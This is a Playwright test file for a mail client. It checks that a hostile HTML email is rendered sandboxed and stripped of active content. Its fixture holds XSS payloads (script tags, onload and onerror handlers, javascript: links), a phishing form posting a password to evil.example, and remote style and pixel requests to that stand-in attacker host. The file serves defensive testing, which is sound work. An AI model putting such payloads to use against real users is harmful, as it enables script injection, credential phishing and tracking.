import { expect, test } from '@playwright/test'
import { cast } from '../world.ts'
import { laroMail, openInbox, pageOf, sendAsCustomer, threadRow } from './story-helpers.ts'

const hostile = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
<style>@import url(https://evil.example/style.css); body { background: url(https://evil.example/bg.png) }</style></head>
<body onload="parent.document.title='owned'"><script>parent.document.title='owned'</script>
<p>The words that remain.</p>
<img src="https://evil.example/pixel.gif" onerror="parent.document.title='owned'">
<svg onload="parent.document.title='owned'"><script>parent.document.title='owned'</script></svg>
<a href="javascript:parent.document.title='owned'">click me</a>
<form action="https://evil.example/phish"><input name="password"><button>Sign in</button></form>
<iframe src="https://evil.example/frame"></iframe>
<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div></body></html>`

test('a hostile mail shows its words and nothing active', async ({ browser }) => {
  const page = await pageOf(browser, cast.ana)
  const asked: string[] = []
  await page.context().route(/evil\.example/, async (route) => {
    asked.push(route.request().url())
    await route.fulfill({ status: 200, contentType: 'image/gif', body: '' })
  })
  await openInbox(page)
  await sendAsCustomer({ from: 'Mal <mal@evil.example>', to: laroMail, subject: 'Look at this', html: hostile })
  await threadRow(page, 'Look at this').click()
  const frame = page.frameLocator('iframe[title^="Message"]:visible')
  await expect(frame.getByText('The words that remain.')).toBeVisible()

  const element = page.locator('iframe[title^="Message"]:visible')
  await expect(element).toHaveAttribute('sandbox', 'allow-same-origin allow-popups allow-popups-to-escape-sandbox')
  await expect(
    frame.locator('script, form, input, iframe, svg, base, meta[http-equiv="refresh"], [onload], [onerror]'),
  ).toHaveCount(0)
  await expect(frame.locator('a[href^="javascript"]')).toHaveCount(0)
  await expect(frame.locator('[style*="position"], [style*="url"], style:not(head > style)')).toHaveCount(0)
  expect(await page.title()).not.toBe('owned')
  expect(asked).toEqual([])

  await page.getByRole('button', { name: 'Show images' }).click()
  await expect.poll(() => asked).toEqual(['https://evil.example/pixel.gif'])
  await expect(page.getByRole('button', { name: 'Show images' })).toHaveCount(0)
  await page.context().close()
})
